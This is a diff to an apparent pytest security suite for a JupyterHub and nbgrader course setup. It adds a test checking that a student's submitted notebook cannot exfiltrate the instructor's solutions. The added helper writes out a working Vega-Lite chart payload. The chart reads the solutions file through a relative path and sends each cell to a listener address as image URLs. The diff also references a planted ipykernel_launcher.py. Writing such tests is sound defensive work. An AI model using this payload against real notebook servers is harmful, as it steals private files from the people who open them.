@@ -49,7 +49,9 @@ hers that alice opens, pulling a repository mallory serves from her kernel into 
 specifications; the lessons' link into a hidden folder and into the instructor's server. And a
 seventh's: her submission carrying an `ipykernel_launcher.py` and a notebook that leaves a mark,
 which the instructor opens in JupyterLab and validates (nothing of hers may run as the
-instructor), and her `nbgrader_config.py`, which collect leaves out. Every
+instructor), a notebook whose stored Vega-Lite chart reads the solutions and sends them to her
+address when the instructor looks at it in Chromium, and her `nbgrader_config.py`, which
+collect leaves out. Every
 server has a host of its own under DOMAIN, which
 this process and the browser resolve to the loopback. The hub's log must flag what one machine
 does not bound (memory, disk, the shared ports and file table), and cookies over plain http.
@@ -79,7 +81,7 @@ import uuid
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from types import SimpleNamespace
-from urllib.parse import quote, urlencode, urlparse
+from urllib.parse import quote, unquote, urlencode, urlparse
 
 import nbformat
 import pytest
@@ -370,6 +372,80 @@ print(json.dumps({"folder on sys.path": [
     p for p in sys.path if pathlib.Path(p or ".").resolve() == here
 ]}))
 """
+
+# Her notebook with a stored Vega-Lite output (a seventh tester's): JupyterLab renders Vega in
+# any notebook, trusted or not, and its loader fetches data with the page's cookies, a relative
+# path from the notebook's folder; each datum then becomes an image's address, hers.
+LOOK_AT_ME = "look-at-me.ipynb"
+SHOWN_TEXT = "A chart of my results"
+
+
+def her_chart(listener):
+    """A notebook whose one output is a Vega-Lite chart that reads the instructor's solution
+    and sends each cell of it to `listener` (an http://host:port address) as an image's URL."""
+    spec = {
+        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+        "data": {
+            "url": f"../../../../solutions/{LAB}/{LAB}.ipynb",
+            "format": {"type": "json", "property": "cells"},
+        },
+        "transform": [{"calculate": f"'{listener}/seen?' + datum.source", "as": "u"}],
+        "mark": {"type": "image", "width": 4, "height": 4},
+        "encoding": {"url": {"field": "u", "type": "nominal"}},
+    }
+    output = nbformat.v4.new_output(
+        "display_data",
+        data={"application/vnd.vegalite.v5+json": spec, "text/plain": "<VegaLite chart>"},
+    )
+    return nbformat.v4.new_notebook(
+        cells=[
+            nbformat.v4.new_markdown_cell(SHOWN_TEXT),
+            nbformat.v4.new_code_cell("results", outputs=[output], execution_count=1),
+        ],
+        metadata={
+            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
+        },
+    )
+
+
+@contextlib.contextmanager
+def listening_for_requests():
+    """An HTTP listener on loopback standing for an address of hers: (its URL, the paths it
+    heard, decoded)."""
+    heard = []
+
+    class Listener(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 (http.server's name)
+            heard.append(unquote(self.path))
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", heard
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def open_notebook_as_instructor(hub, password, path, heard, seconds=45):
+    """The instructor logs in, opens the notebook at `path` (under her course) in JupyterLab and
+    looks at it for `seconds`: whether its markdown showed, and what `heard` got meanwhile."""
+    with logged_in(hub, INSTRUCTOR, password) as page:
+        page.goto(hub.url_of(f"/user/{INSTRUCTOR}/lab/tree/{path}"), timeout=120_000)
+        shown = page.locator(".jp-RenderedMarkdown").filter(has_text=SHOWN_TEXT).first
+        shown.wait_for(timeout=180_000)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and not heard:
+            page.wait_for_timeout(1000)
+        page.wait_for_timeout(2000)  # whatever else it sends
+        return {"shown": True, "heard": list(heard)}
+
 
 UNFIXED_COLLECT = """
 import sys
@@ -1739,9 +1815,13 @@ def played(hub, machine):
     # And a module named as the one a kernel starts from (`python -m ipykernel_launcher`, in
     # the notebook's folder), which leaves its mark and then starts the real kernel.
     opened = home[INSTRUCTOR] / "mallory-opened"
+    # And her chart, which sends what it reads to an address of hers.
+    listener = listening_for_requests()
+    her_address, heard = listener.__enter__()
     for name, text in {
         VALIDATE_ME: nbformat.writes(marking),
         "ipykernel_launcher.py": HER_KERNEL_LAUNCHER.format(mark=opened.name),
+        LOOK_AT_ME: nbformat.writes(her_chart(her_address)),
     }.items():
         written = as_user(
             ATTACKER,
@@ -1774,6 +1854,16 @@ def played(hub, machine):
         "her mark in the instructor's home": opened.exists(),
     }
     hub.call("DELETE", f"/user/{INSTRUCTOR}/api/sessions/{session['id']}")
+    # The instructor looks at her chart's notebook in JupyterLab.
+    try:
+        out["her chart"] = open_notebook_as_instructor(
+            hub,
+            machine.passwords[INSTRUCTOR],
+            str((hers_collected / LOOK_AT_ME).relative_to(course)),
+            heard,
+        )
+    finally:
+        listener.__exit__(None, None, None)
     # Validate, as the instructor: her submission's notebook, then one of the course's own (a
     # notebook of the instructor's beside the lab's source, which leaves its own mark).
     out["validate"] = {
@@ -2789,6 +2879,12 @@ def test_no_submission_runs_when_the_instructor_opens_it(played):
     assert opened["collected"], opened  # her launcher lies beside her notebook
     assert opened["her mark in the instructor's home"] is False, opened
     assert opened["the kernel's path"] == {"folder on sys.path": []}, opened
+
+
+def test_no_submission_reads_the_instructors_files_in_her_jupyterlab(played):
+    chart = played["her chart"]
+    assert chart["shown"], chart  # the instructor's JupyterLab showed her notebook
+    assert chart["heard"] == [], chart  # and nothing reached the student's address
 
 
 def test_no_submission_runs_in_the_instructors_validate(played):
